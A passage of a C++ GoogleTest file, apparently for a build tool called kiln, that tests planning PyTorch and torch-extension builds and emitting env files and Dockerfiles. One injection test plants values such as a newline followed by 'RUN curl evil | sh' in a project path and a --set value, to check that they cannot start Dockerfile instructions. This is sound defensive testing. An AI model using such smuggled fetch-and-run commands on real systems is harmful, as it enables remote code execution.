// Planning PyTorch checkouts and torch extensions, and writing plans out.
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>
#include <nlohmann/json.hpp>

#include "fakes/process.hpp"
#include "fakes/fs.hpp"
#include "core/data.hpp"
#include "io/isolated_python.hpp"
#include "plan/emit.hpp"
#include "plan/make_plan.hpp"
#include "plan/plan_report.hpp"
#include "probe/externally_managed.hpp"
#include "read/project_kind.hpp"
#include "test_support.hpp"
#include "read/torch_package.hpp"

using namespace kiln;

namespace {

struct NoGpus : probe::GpuQuery {
  probe::LocalGpus query() override { return {}; }
};

struct Harness : kiln::testing::FakeSeams {
  NoGpus gpus;
  probe::MachineInfo machine;
  Harness() {
    env.set("PATH", "/usr/bin");
    for (const char* t : {"/usr/bin/python3", "/usr/bin/ninja", "/usr/bin/ccache", "/usr/bin/cmake"})
      fs.add_file(t, "", true);
    fs.add_file("/usr/local/cuda/bin/nvcc", "", true);
    proc.on("/usr/local/cuda/bin/nvcc --version", io::ran("Cuda compilation tools, release 13.0, V13.0.88\n"));
    proc.on("/usr/local/cuda/bin/nvcc --list-gpu-code", io::ran("sm_75 sm_80 sm_86 sm_89 sm_90 sm_100 sm_120\n"));
    proc.on("/usr/local/cuda/bin/nvcc --list-gpu-arch", io::ran(""));
    proc.on(io::isolated_python_line("/usr/bin/python3", read::torch_find_spec_script(), io::PythonSite::needed),
            io::ran("/site/torch\n"));
    machine.cores = 32;
    machine.mem_total = machine.mem_available = 64ULL << 30;
  }
  tl::expected<plan::Plan, plan::PlanError> plan(const std::string& dir, plan::BuildRequest r) {
    r.project_dir = dir;
    return plan::make_plan(r, seams, gpus, machine);
  }
};

}  // namespace

TEST(ProjectKind, Detection) {
  io::FakeFilesystem fs;
  fs.add_file("/pt/setup.py", "");
  fs.add_file("/pt/CMakeLists.txt", "");
  fs.add_dir("/pt/torchgen");
  fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import BuildExtension, CUDAExtension\n");
  fs.add_file("/pyp/pyproject.toml", "[build-system]\nrequires = [\"setuptools\", \"torch>=2.4\"]\n");
  fs.add_file("/cm/CMakeLists.txt", "");
  fs.add_file("/py/setup.py", "from setuptools import setup\n");
  EXPECT_EQ(read::detect_project_kind(fs, "/pt"), read::ProjectKind::pytorch);
  EXPECT_EQ(read::detect_project_kind(fs, "/ext"), read::ProjectKind::extension);
  EXPECT_EQ(read::detect_project_kind(fs, "/pyp"), read::ProjectKind::extension);
  EXPECT_EQ(read::detect_project_kind(fs, "/cm"), read::ProjectKind::cmake);
  EXPECT_EQ(read::detect_project_kind(fs, "/py"), read::ProjectKind::unknown);
  // torch as a run-time dependency only: a CMake project (bitsandbytes' shape).
  fs.add_file("/dep/pyproject.toml",
              "[build-system]\nrequires = [\"scikit-build-core\"]\n[project]\ndependencies = [\"torch>=2.3\"]\n");
  fs.add_file("/dep/CMakeLists.txt", "");
  EXPECT_EQ(read::detect_project_kind(fs, "/dep"), read::ProjectKind::cmake);
}

TEST(PythonPlan, ProjectKnobsReachTheBuildEnvironmentAndSetWins) {
  Harness h;
  h.fs.add_file("/cc/setup.py",
                "from torch.utils.cpp_extension import CUDAExtension\n"
                "FORCE_BUILD = os.getenv(\"PROJ_FORCE_BUILD\", \"FALSE\") == \"TRUE\"\n"
                "KEEP = os.getenv(\"PROJ_KEEP_CUDA_BUILD\", \"FALSE\") == \"TRUE\"\n");
  auto p = h.plan("/cc", {.gpus = {"h100"}, .sets = {"PROJ_KEEP_CUDA_BUILD=maybe"}});
  ASSERT_TRUE(p) << p.error().message;
  EXPECT_EQ(p->env.at("PROJ_FORCE_BUILD"), "TRUE");
  EXPECT_EQ(p->env.at("PROJ_KEEP_CUDA_BUILD"), "maybe");  // --set is the user's word
  EXPECT_EQ(p->knobs.knobs.size(), 2u);

  auto none = h.plan("/cc", {.gpus = {"h100"}, .no_knobs = true});
  ASSERT_TRUE(none);
  EXPECT_FALSE(none->env.count("PROJ_FORCE_BUILD"));

  auto bad = h.plan("/cc", {.gpus = {"h100"}, .knobs = {"NOEQUALS"}});
  ASSERT_FALSE(bad);
  EXPECT_TRUE(bad.error().usage);
}

TEST(PythonPlan, CMakeProjectKnobsBecomeDefines) {
  Harness h;
  h.fs.add_file("/bnb/CMakeLists.txt",
                "project(x LANGUAGES CXX)\nset(COMPUTE_BACKEND \"cpu\" CACHE STRING \"b\")\n"
                "set_property(CACHE COMPUTE_BACKEND PROPERTY STRINGS cpu cuda)\n");
  auto p = h.plan("/bnb", {.gpus = {"h100"}});
  ASSERT_TRUE(p) << p.error().message;
  auto argv = p->configure_argv();
  EXPECT_NE(std::find(argv.begin(), argv.end(), "-DCOMPUTE_BACKEND=cuda"), argv.end());
  auto user = h.plan("/bnb", {.gpus = {"h100"}, .cmake_defines = {"COMPUTE_BACKEND=hip"}});
  ASSERT_TRUE(user);
  argv = user->configure_argv();
  EXPECT_EQ(std::find(argv.begin(), argv.end(), "-DCOMPUTE_BACKEND=cuda"), argv.end());  // -D wins
}

TEST(PythonPlan, PyTorchCheckoutGetsTheSeedsEnvironment) {
  Harness h;
  h.fs.add_file("/pt/setup.py", "");
  h.fs.add_file("/pt/CMakeLists.txt", "");
  h.fs.add_dir("/pt/torchgen");
  auto p = h.plan("/pt", {.gpus = {"a100", "h100"},
                          .profile = "production",
                          .sets = {"USE_DISTRIBUTED=0"},
                          .library_check = [](const std::string& l) -> std::optional<bool> { return l != "cupti"; }});
  ASSERT_TRUE(p) << p.error().message;
  EXPECT_EQ(p->kind, read::ProjectKind::pytorch);
  EXPECT_EQ(p->env.at("TORCH_CUDA_ARCH_LIST"), "8.0;9.0");
  EXPECT_EQ(p->env.at("CMAKE_GENERATOR"), "Ninja");
  EXPECT_EQ(p->env.at("USE_NCCL"), "0");
  EXPECT_EQ(p->env.at("USE_CUPTI"), "0");
  EXPECT_EQ(p->env.at("LIBKINETO_NOCUPTI"), "1");
  EXPECT_EQ(p->env.at("BUILD_TEST"), "0");
  EXPECT_EQ(p->env.at("CUDA_HOME"), "/usr/local/cuda");
  EXPECT_EQ(p->env.at("MAX_JOBS"), std::to_string(p->jobs.jobs));
  EXPECT_EQ(p->env.at("CMAKE_CUDA_COMPILER_LAUNCHER"), "/usr/bin/ccache");
  EXPECT_EQ(p->build_argv(), (std::vector<std::string>{"/usr/bin/python3", "setup.py", "develop"}));
}

TEST(PythonPlan, DevProfileNeedsALocalGpu) {
  Harness h;
  h.fs.add_file("/ext/setup.py", "CUDAExtension");
  auto p = h.plan("/ext", {.profile = "dev"});
  ASSERT_FALSE(p);
  EXPECT_NE(p.error().message.find("--gpu"), std::string::npos);
  auto q = h.plan("/ext", {.gpus = {"h100"}, .profile = "dev"});
  ASSERT_TRUE(q) << q.error().message;
  EXPECT_EQ(q->build_type, "RelWithDebInfo");
}

TEST(PythonPlan, ExtensionUsesCcacheThroughCxxAndPytorchNvcc) {
  Harness h;
  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
  h.fs.add_file("/usr/bin/c++", "", true);
  auto p = h.plan("/ext", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln"});
  ASSERT_TRUE(p) << p.error().message;
  // Links to kiln, not "ccache c++": torch would read "ccache" as a 0.0.0 compiler and refuse.
  EXPECT_EQ(p->env.at("PYTORCH_NVCC"), "/ext/build-kiln/.kiln/bin/nvcc");
  EXPECT_EQ(p->env.at("CXX"), "/ext/build-kiln/.kiln/bin/c++");
  EXPECT_EQ(p->env.count("TORCH_DONT_CHECK_COMPILER_ABI"), 0u);
  auto child = p->child_env(h.env);
  EXPECT_EQ(child.at("KILN_WRAP_CXX"), "/usr/bin/ccache\x1f/usr/bin/c++");
  EXPECT_EQ(child.at("KILN_WRAP_NVCC"), "/usr/bin/ccache\x1f/usr/local/cuda/bin/nvcc");
  EXPECT_EQ(p->env.at("TORCH_CUDA_ARCH_LIST"), "9.0");
  // The backend builds the wheel once into the build folder; pip then installs that file.
  EXPECT_EQ(p->build_argv(),
            (std::vector<std::string>{p->python, "/ext/build-kiln/.kiln/wheel_build.py", "/ext/build-kiln/wheel"}));
}

// Issue 21: a torch extension whose interpreter has no torch is refused when planned, naming the
// interpreter and what to do, instead of compiling nothing and failing at the backend's import.
TEST(PythonPlan, ExtensionWithoutTorchIsRefusedUpFront) {
  Harness h;
  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
  h.proc.on(io::isolated_python_line("/usr/bin/python3", read::torch_find_spec_script(), io::PythonSite::needed),
            io::ran(""));
  auto p = h.plan("/ext", {.gpus = {"h100"}});
  ASSERT_FALSE(p);
  EXPECT_FALSE(p.error().usage);  // exit 1: the environment lacks something
  EXPECT_NE(p.error().message.find("/usr/bin/python3 finds no torch package"), std::string::npos) << p.error().message;
  EXPECT_NE(p.error().message.find("--python"), std::string::npos);
  EXPECT_EQ(p.error().message.find('\n'), std::string::npos);
  // A project's own PEP 517 backend may build without torch: kiln cannot tell, and lets it run.
  h.fs.add_file("/ext/pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"own\"\nbackend-path = [\"backend\"]\n");
  EXPECT_TRUE(h.plan("/ext", {.gpus = {"h100"}}));
  h.fs.add_file("/ext/pyproject.toml", "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n");
  EXPECT_FALSE(h.plan("/ext", {.gpus = {"h100"}}));
}

// Issue 21: an interpreter pip refuses to install into (PEP 668) is refused before anything compiles.
TEST(PythonPlan, ExternallyManagedPythonIsRefusedUpFront) {
  Harness h;
  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
  h.proc.on(io::isolated_python_line("/usr/bin/python3", probe::externally_managed_script(), io::PythonSite::needed),
            io::ran("/usr/lib/python3.11/EXTERNALLY-MANAGED\n"));
  auto p = h.plan("/ext", {.gpus = {"h100"}});
  ASSERT_FALSE(p);
  EXPECT_NE(p.error().message.find("PEP 668"), std::string::npos) << p.error().message;
  EXPECT_NE(p.error().message.find("--system-site-packages"), std::string::npos) << p.error().message;
  // A CMake project installs nothing with pip: no objection.
  h.fs.add_file("/cm/CMakeLists.txt", "");
  EXPECT_TRUE(h.plan("/cm", {.gpus = {"h100"}}));
}

// Issue 21: distutils splits CXX on blanks, so a build folder with a space in its path gets its
// compiler links in kiln's user cache (tests/e2e/extension_space_path.sh builds one for real).
TEST(PythonPlan, CompilerLinksNeverSitAtAPathWithABlank) {
  Harness h;
  h.fs.add_file("/my ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
  h.fs.add_file("/usr/bin/c++", "", true);
  h.env.set("HOME", "/home/u");
  auto p = h.plan("/my ext", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln"});
  ASSERT_TRUE(p) << p.error().message;
  EXPECT_EQ(p->env.at("CXX").find(' '), std::string::npos) << p->env.at("CXX");
  EXPECT_EQ(p->env.at("CXX").rfind("/home/u/.cache/kiln/bin/", 0), 0u) << p->env.at("CXX");
  EXPECT_EQ(p->env.at("PYTORCH_NVCC"), p->wrapper_dir() + "/nvcc");
  auto q = h.plan("/my ext", {.build_dir = "/other", .gpus = {"h100"}, .kiln_exe = "/opt/kiln"});
  ASSERT_TRUE(q);
  EXPECT_EQ(q->env.at("CXX"), "/other/.kiln/bin/c++");  // no blank: where it always was
  h.env.set("HOME", "/home/a b");
  auto r = h.plan("/my ext", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln"});
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("--build-dir without a blank"), std::string::npos) << r.error().message;
}

// Issue 21: a build folder outside the project keeps another checkout from the cache's hits; the
// plan says so (tests/e2e/cache_second_checkout.sh shows the default layout hitting).
TEST(PythonPlan, ABuildFolderOutsideTheProjectIsNotedForCacheSharing) {
  Harness h;
  h.fs.add_file("/src/p/CMakeLists.txt", "project(p CXX CUDA)\n");
  auto has_note = [](const plan::Plan& p) {
    return std::any_of(p.notes.begin(), p.notes.end(),
                       [](const std::string& n) { return n.find("outside the project") != std::string::npos; });
  };
  auto inside = h.plan("/src/p", {.gpus = {"h100"}});
  ASSERT_TRUE(inside) << inside.error().message;
  EXPECT_FALSE(has_note(*inside));
  EXPECT_EQ(inside->source_link, "");
  auto outside = h.plan("/src/p", {.build_dir = "/builds/p", .gpus = {"h100"}});
  ASSERT_TRUE(outside) << outside.error().message;
  EXPECT_TRUE(has_note(*outside));
  // Configured through BUILD/.s -> DIR, ccache's base the build folder: the same paths in any checkout.
  EXPECT_EQ(outside->source_link, "/builds/p/.s");
  const auto argv = outside->configure_argv();
  ASSERT_GE(argv.size(), 5u);
  EXPECT_EQ(argv[1], "-S");
  EXPECT_EQ(argv[2], "/builds/p/.s");
  EXPECT_EQ(outside->ccache_basedir(), "/builds/p");
  EXPECT_NE(plan::emit_env(*outside).find("# configure: ln -sfn /src/p /builds/p/.s && cmake -S /builds/p/.s"),
            std::string::npos);
  // Without ccache there is nothing to share: DIR as it is.
  EXPECT_EQ(h.plan("/src/p", {.build_dir = "/builds/p", .gpus = {"h100"}, .ccache = false})->source_link, "");
  // A build folder CMake configured from DIR itself keeps it (CMake refuses another source folder).
  h.fs.add_file("/builds/p/CMakeCache.txt", "CMAKE_HOME_DIRECTORY:INTERNAL=/src/p\n");
  auto old = h.plan("/src/p", {.build_dir = "/builds/p", .gpus = {"h100"}});
  ASSERT_TRUE(old) << old.error().message;
  EXPECT_EQ(old->source_link, "");
  EXPECT_EQ(old->configure_argv()[2], "/src/p");
  EXPECT_TRUE(has_note(*old));
}

TEST(PythonPlan, CpuProfileNeedsNoNvcc) {
  Harness h;
  h.fs.add_file("/pt/setup.py", "");
  h.fs.add_file("/pt/CMakeLists.txt", "");
  h.fs.add_dir("/pt/torchgen");
  h.env.set("PATH", "/usr/bin");
  io::FakeProcessRunner none;  // nvcc would not answer
  io::Seams s{h.fs, none, h.clock, h.env, h.out, h.err};
  auto p = plan::make_plan({.project_dir = "/pt", .profile = "cpu"}, s, h.gpus, h.machine);
  ASSERT_TRUE(p) << p.error().message;
  EXPECT_FALSE(p->cuda());
  EXPECT_EQ(p->env.at("USE_CUDA"), "0");
  EXPECT_EQ(p->env.count("TORCH_CUDA_ARCH_LIST"), 0u);
}

TEST(PythonPlan, DistributionProfileIsWideWithPtx) {
  Harness h;
  h.fs.add_file("/cm/CMakeLists.txt", "");
  auto p = h.plan("/cm", {.profile = "distribution"});
  ASSERT_TRUE(p) << p.error().message;
  EXPECT_EQ(p->targets.size(), 8u);  // 7 SASS + PTX of 12.0
  EXPECT_EQ(p->arch_source, "profile distribution");
}

TEST(PythonPlan, UnknownProfileListsTheKnownOnes) {
  Harness h;
  h.fs.add_file("/cm/CMakeLists.txt", "");
  auto p = h.plan("/cm", {.profile = "fast"});
  ASSERT_FALSE(p);
  EXPECT_NE(p.error().message.find("production"), std::string::npos);
}

TEST(Emit, EnvCmakeAndDockerfile) {
  Harness h;
  h.fs.add_file("/cm/CMakeLists.txt", "");
  auto p = h.plan("/cm", {.gpus = {"h100"}, .sets = {"MT_FAST=ON"}}).value();
  auto env = plan::emit_env(p);
  EXPECT_NE(env.find("CUDAARCHS='90-real'\n"), std::string::npos) << env;  // quoted: ';' in a list survives sourcing
  auto presets = plan::emit_cmake(p);
  EXPECT_NE(presets.find("\"CMAKE_CUDA_ARCHITECTURES\": \"90-real\""), std::string::npos) << presets;
  EXPECT_NE(presets.find("\"MT_FAST\": \"ON\""), std::string::npos);
  auto docker = plan::emit_dockerfile(p);
  EXPECT_NE(docker.find("AS build"), std::string::npos);
  EXPECT_NE(docker.find("AS runtime"), std::string::npos);
  EXPECT_NE(docker.find("RUN [\"kiln\", \"verify\", \"/opt/app\", \"--gpu\", \"H100 SXM\"]"), std::string::npos)
      << docker;
  EXPECT_FALSE(plan::emit(p, "yaml"));
}

namespace {
// The arguments after DIR on a line that runs `kiln build DIR ...` ("" when no such line).
std::string kiln_build_args(const std::string& text, const std::string& start, const std::string& dir_and_fixed) {
  auto at = text.find(start + dir_and_fixed);
  if (at == std::string::npos) return "";
  at += start.size() + dir_and_fixed.size();
  return text.substr(at, text.find('\n', at) - at);
}
// The words of the Dockerfile's `kiln build` line (exec form: a JSON array) after the fixed ones.
std::vector<std::string> docker_build_args(const std::string& docker) {
  const std::string start = "RUN --mount=type=cache,target=/root/.cache/ccache ";
  auto at = docker.find(start);
  if (at == std::string::npos) return {};
  at += start.size();
  auto words = nlohmann::json::parse(docker.substr(at, docker.find('\n', at) - at)).get<std::vector<std::string>>();
  const std::vector<std::string> fixed{
      "kiln", "build", "/src", "--build-dir", "/src/build-kiln", "--cache-dir", "/root/.cache/ccache"};
  if (words.size() < fixed.size() || !std::equal(fixed.begin(), fixed.end(), words.begin())) return {"?"};
  return {words.begin() + static_cast<long>(fixed.size()), words.end()};
}
}  // namespace

// The Dockerfile's `kiln build` takes the plan's one list of options (Plan::kiln_args), as --emit env
// does, less what names this machine (issue 21: it rebuilt a partial list and dropped --prune-archs,
// --knob, -D, --jobs; pruning is the default since issue 35, so the flag kept is --keep-project-archs).
TEST(Emit, DockerfileBuildsWithTheOptionsThatShapedThePlan) {
  Harness h;
  h.fs.add_file("/cm/CMakeLists.txt", "");
  plan::BuildRequest r{.build_dir = "/tmp/out",
                       .gpus = {"h100", "a100"},
                       .jobs = 3,
                       .kiln_exe = "/opt/kiln",
                       .prune_archs = false,
                       .cache_dir = "/home/u/cc",
                       .cmake_defines = {"MT_FAST=ON", "MT_DATA=/cm/data", "MT_SDK=/opt/sdk"}};
  auto planned = h.plan("/cm", r);
  ASSERT_TRUE(planned) << planned.error().message;
  const auto& p = *planned;
  const auto env = plan::emit_env(p);
  const auto docker = plan::emit_dockerfile(p);
  const std::string env_args = kiln_build_args(env, "# kiln build ", "/cm");
  ASSERT_FALSE(env_args.empty()) << env;
  EXPECT_EQ(env_args,
            " --gpu h100 --gpu a100 --jobs 3 --build-dir /tmp/out --cache-dir /home/u/cc -D MT_FAST=ON -D "
            "MT_DATA=/cm/data -D MT_SDK=/opt/sdk --keep-project-archs");
  // The same list, with the project's path moved to /src and this machine's paths left out, each said.
  EXPECT_EQ(docker_build_args(docker),
            (std::vector<std::string>{"--gpu", "h100", "--gpu", "a100", "--jobs", "3", "-D", "MT_FAST=ON", "-D",
                                      "MT_DATA=/src/data", "--keep-project-archs"}))
      << docker;
  for (const char* said : {"--build-dir /tmp/out", "--cache-dir /home/u/cc", "-D MT_SDK=/opt/sdk"})
    EXPECT_NE(docker.find(std::string("# left out, a path on this machine: ") + said), std::string::npos) << said;
}

// Targets this machine chose from its environment are pinned: the image has no GPU and no variable.
TEST(Emit, DockerfilePinsTargetsThisMachineChose) {
  Harness h;
  h.fs.add_file("/cm/CMakeLists.txt", "");
  h.env.set("CUDAARCHS", "80-real;90-real");
  auto p = h.plan("/cm", {}).value();
  ASSERT_EQ(p.arch_source, "CUDAARCHS");
  EXPECT_EQ(docker_build_args(plan::emit_dockerfile(p)),
            (std::vector<std::string>{"--archs", "80-real;90-real", "--from", "cmake"}));
}

// A newline in the project's path or a --set value must not start a Dockerfile instruction (issue 34,
// case 9): comments are one line, arguments are JSON strings in exec-form RUNs.
TEST(Emit, DockerfileValuesNeverStartAnInstruction) {
  Harness h;
  h.fs.add_file("/c\nRUN curl evil | sh\n/CMakeLists.txt", "");
  auto p = h.plan("/c\nRUN curl evil | sh\n", {.gpus = {"h100"}, .sets = {"MT=1\nRUN curl evil2 | sh"}});
  ASSERT_TRUE(p) << p.error().message;
  const auto docker = plan::emit_dockerfile(*p);
  std::istringstream lines(docker);
  for (std::string line; std::getline(lines, line);) {
    EXPECT_NE(line.rfind("RUN curl", 0), 0u) << line;
    if (line.empty() || line[0] == '#') continue;
    const auto word = line.substr(0, line.find(' '));
    EXPECT_TRUE(word == "FROM" || word == "RUN" || word == "COPY" || word == "WORKDIR" || word == "ENV" ||
                word == "ARG")
        << line;
  }
  EXPECT_NE(docker.find("MT=1\\nRUN curl evil2 | sh\""), std::string::npos) << docker;
}

// A torch extension's image (issue 33's item, owned by 34): the build stage installs the project's
// torch and builds the wheel, the runtime stage installs that wheel and verifies it; nothing is
// allowed to fail quietly (`|| true`).
TEST(Emit, DockerfileBuildsAndInstallsATorchExtensionsWheel) {
  Harness h;
  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension\nCUDAExtension('m', ['m.cu'])\n");
  auto p = h.plan("/ext", {.gpus = {"h100"}}).value();
  ASSERT_EQ(p.kind, read::ProjectKind::extension);
  const auto docker = plan::emit_dockerfile(p);
  EXPECT_EQ(docker.find("|| true"), std::string::npos) << docker;
  const auto runtime = docker.find("AS runtime");
  ASSERT_NE(runtime, std::string::npos) << docker;
  const auto torch = docker.find("\"pip\", \"install\", \"--no-cache-dir\", \"torch");
  ASSERT_NE(torch, std::string::npos) << docker;
  EXPECT_LT(torch, runtime);  // the build stage has torch
  EXPECT_LT(docker.find("cp /src/build-kiln/wheel/*.whl /opt/wheel/"), runtime) << docker;
  EXPECT_GT(docker.find("pip install --no-cache-dir --no-deps /opt/wheel/*.whl"), runtime) << docker;
  EXPECT_GT(docker.find("[\"kiln\", \"verify\", \"/opt/venv/lib\", \"--gpu\", \"H100 SXM\"]"), runtime) << docker;
  // The context is the project planned, wherever kiln ran from.
  EXPECT_NE(docker.find("# Build it with: docker build --build-context kiln="), std::string::npos);
  EXPECT_NE(docker.find("-f Dockerfile /ext\n"), std::string::npos) << docker;
}

// `kiln plan --emit env` is for the user's own build in a plain shell: nothing it exports may name
// kiln's compiler links (they exist only under kiln build) or be read by kiln's launcher alone, and
// every option that shaped the plan is kept (issue 21: the links were exported, --prune-archs dropped).
TEST(Emit, EnvWorksInAPlainShellAndKeepsEveryOption) {
  Harness h;
  h.fs.add_file(
      "/ext/setup.py",
      "from torch.utils.cpp_extension import CUDAExtension\n"
      "CUDAExtension('m', ['m.cu'], extra_compile_args={'nvcc': ['-gencode', 'arch=compute_70,code=sm_70']})\n");
  h.fs.add_file("/usr/bin/c++", "", true);
  auto p = h.plan("/ext", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln"}).value();  // pruned by default
  ASSERT_TRUE(p.wraps_compilers());
  const auto env = plan::emit_env(p);
  std::istringstream lines(env);
  for (std::string line; std::getline(lines, line);) {
    if (line.empty() || line[0] == '#') continue;
    EXPECT_EQ(line.find("/.kiln/"), std::string::npos) << line;
    EXPECT_NE(line.rfind("KILN_", 0), 0u) << line;
  }
  EXPECT_NE(env.find("# kiln build /ext --gpu h100\n"), std::string::npos) << env;
  EXPECT_NE(env.find("# needs kiln build: CXX=/ext/build-kiln/.kiln/bin/c++"), std::string::npos) << env;
  EXPECT_NE(env.find("# needs kiln build: --prune-archs"), std::string::npos) << env;
  EXPECT_NE(env.find("TORCH_CUDA_ARCH_LIST='9.0'\n"), std::string::npos) << env;
}

// issue 33: the env said "a plain build also compiles setup.py:18 cc_flag.append("-gencode")" (a line,
// not architectures; fast-hadamard-transform e7706faf's own list is the planned sm_90, nothing more),
// and "also compiles whatever the project hard-codes" for a project that hard-codes none.
TEST(Emit, EnvSaysWhatAPlainBuildDoesWithTheProjectsOwnArchFlags) {
  Harness h;
  h.fs.add_file("/ext/setup.py",
                "from torch.utils.cpp_extension import CUDAExtension\n"
                "cc_flag = []\n"
                "cc_flag.append('-gencode')\n"
                "cc_flag.append('arch=compute_90,code=sm_90')\n"
                "CUDAExtension('m', ['m.cu'], extra_compile_args={'nvcc': cc_flag})\n");
  auto env = plan::emit_env(h.plan("/ext", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln"}).value());
  EXPECT_NE(env.find("a plain build hands nvcc the project's own flags as they are (setup.py:3"), std::string::npos)
      << env;
  EXPECT_EQ(env.find("also compiles"), std::string::npos) << env;
  h.fs.add_file("/own/setup.py", "from torch.utils.cpp_extension import CUDAExtension\nCUDAExtension('m', ['m.cu'])\n");
  env = plan::emit_env(h.plan("/own", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln"}).value());
  EXPECT_EQ(env.find("--prune-archs"), std::string::npos) << env;  // nothing of the project's own to rewrite
}

TEST(Emit, EnvGivesAPlainBuildTheMemoryBoundAndTheConfigureLine) {
  Harness h;
  h.machine.mem_total = h.machine.mem_available = 8ULL << 30;  // memory allows fewer jobs than 32 cores
  h.fs.add_file("/cm/CMakeLists.txt", "");
  auto p = h.plan("/cm", {.gpus = {"h100"}, .kiln_exe = "/opt/kiln", .cmake_defines = {"X=1 2"}}).value();
  ASSERT_TRUE(p.governed());
  ASSERT_LT(p.jobs.by_memory, p.jobs.jobs);
  const auto env = plan::emit_env(p);
  EXPECT_NE(env.find("CMAKE_BUILD_PARALLEL_LEVEL='" + std::to_string(p.jobs.by_memory) + "'\n"), std::string::npos)
      << env;
  EXPECT_NE(env.find("# configure: cmake -S /cm -B /cm/build-kiln '-DX=1 2'\n"), std::string::npos) << env;
  EXPECT_NE(env.find("# kiln build /cm --gpu h100 -D 'X=1 2'\n"), std::string::npos) << env;
}

// Issue 21: a folder of a CMake project (no project() call, built through the root's
// add_subdirectory, like examples/minitorch/cuda) is refused, naming the root; a sub-project that
// calls project() itself may be built alone.
TEST(PythonPlan, AFolderOfACMakeProjectIsRefusedNamingTheRoot) {
  Harness h;
  h.fs.add_file("/p/CMakeLists.txt",
                "cmake_minimum_required(VERSION 3.24)\nProject(p LANGUAGES CXX CUDA)\n"
                "add_subdirectory(src)\n");
  h.fs.add_file("/p/src/CMakeLists.txt", "add_subdirectory(cuda)\n");
  h.fs.add_file("/p/src/cuda/CMakeLists.txt", "add_library(k k.cu)  # project() in a comment is no call\n");
  auto p = h.plan("/p/src/cuda", {.gpus = {"h100"}});
  ASSERT_FALSE(p);
  EXPECT_TRUE(p.error().usage);
  EXPECT_NE(p.error().message.find("folder of the CMake project /p:"), std::string::npos) << p.error().message;
  EXPECT_TRUE(h.plan("/p", {.gpus = {"h100"}}));
  h.fs.add_file("/p/third_party/lib/CMakeLists.txt", "project(lib CXX)\n");
  EXPECT_TRUE(h.plan("/p/third_party/lib", {.gpus = {"h100"}}));
  // A package folder of a Python project: nothing to build there, and the message names the project.
  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
  h.fs.add_file("/ext/pkg/__init__.py", "");
  auto q = h.plan("/ext/pkg", {.gpus = {"h100"}});
  ASSERT_FALSE(q);
  EXPECT_NE(q.error().message.find("inside /ext, which has setup.py: pass that folder"), std::string::npos)
      << q.error().message;
}

// issue 33: a project's declared torch range, unchecked, let a build fail in torch's headers with
// "fix the code at .../simd.h:129".
TEST(PythonPlan, DeclaredTorchRangeIsCheckedAgainstTheBuildsTorch) {
  Harness h;
  h.fs.add_file("/site/torch/version.py", "__version__ = '1.13.1'\ncuda = None\n");
  h.fs.add_file("/ext/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CppExtension\n"
                "setup(install_requires=['torch>=2.0', 'torchvision>=9'])\n");
  h.fs.add_file("/ext/requirements.txt", "torch<3\n");
  auto p = h.plan("/ext", {.gpus = {"h100"}});
  ASSERT_TRUE(p) << p.error().message;   // a note, not a refusal: declared ranges can be stricter than the code
  ASSERT_EQ(p->torch_unmet.size(), 1u);  // torch<3 holds, torchvision is another package
  EXPECT_EQ(p->torch_unmet[0].where, "setup.py:2");
  EXPECT_EQ(p->torch_unmet[0].specifier, ">=2.0");
  bool noted = false;
  for (const auto& n : p->notes)
    noted |= n.find("declares torch>=2.0 (setup.py:2), but /usr/bin/python3 has torch 1.13.1") != std::string::npos;
  EXPECT_TRUE(noted);

  h.fs.add_file("/site/torch/version.py", "__version__ = '2.11.0+cu130'\ncuda = '13.0'\n");
  auto in_range = h.plan("/ext", {.gpus = {"h100"}});
  ASSERT_TRUE(in_range) << in_range.error().message;
  EXPECT_TRUE(in_range->torch_unmet.empty());
}

// issue 33: NVIDIAGameWorks/kaolin d52da9f8 checks torch in setup.py's code (setup.py:36: raise
// outside 2.5.1-2.12.1) and declares no range; kiln plan with torch 1.13 said nothing, and the
// build stopped at its first line. The reader's answer is faked here (its own test reads the code).
TEST(PythonPlan, ATorchRangeCheckedInSetupPyCodeIsCheckedToo) {
  Harness h;
  h.fs.add_file("/site/torch/version.py", "__version__ = '1.13.1'\ncuda = None\n");
  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import BuildExtension, CppExtension\n");
  const std::string reader(*kiln::data::file("read_setup.py"));
  h.proc.on(io::isolated_python_line("/usr/bin/python3", reader, io::PythonSite::skipped, {"/ext"}),
            io::ran(R"({"version": 1, "files": ["setup.py"], "extensions": [{"kind": "CppExtension",
                        "where": "setup.py:9", "text": "CppExtension("}],
                        "torch_checks": [{"where": "setup.py:36", "text": "if torch_ver < ...",
                                          "specifier": ">=2.5.1,<=2.12.1"}]})"));
  auto p = h.plan("/ext", {.gpus = {"h100"}});
  ASSERT_TRUE(p) << p.error().message;
  ASSERT_EQ(p->torch_unmet.size(), 1u);
  EXPECT_EQ(p->torch_unmet[0].where, "setup.py:36");
  EXPECT_EQ(p->torch_unmet[0].specifier, ">=2.5.1,<=2.12.1");
}

// issue 33: facebookresearch/sam2 2b90b9f5 declares torch>=2.5.1 in pyproject.toml:4 and setup.py:25;
// the plan printed the note twice. One note per distinct range, naming every place.
TEST(PythonPlan, ATorchRangeDeclaredTwiceIsOneNoteNamingBothPlaces) {
  Harness h;
  h.fs.add_file("/site/torch/version.py", "__version__ = '1.13.1'\ncuda = None\n");
  h.fs.add_file("/ext/pyproject.toml", "[build-system]\nrequires = ['setuptools', 'torch>=2.5.1']\n");
  h.fs.add_file("/ext/setup.py",
                "from torch.utils.cpp_extension import BuildExtension, CUDAExtension\n"
                "setup(install_requires=['torch>=2.5.1'])\n");
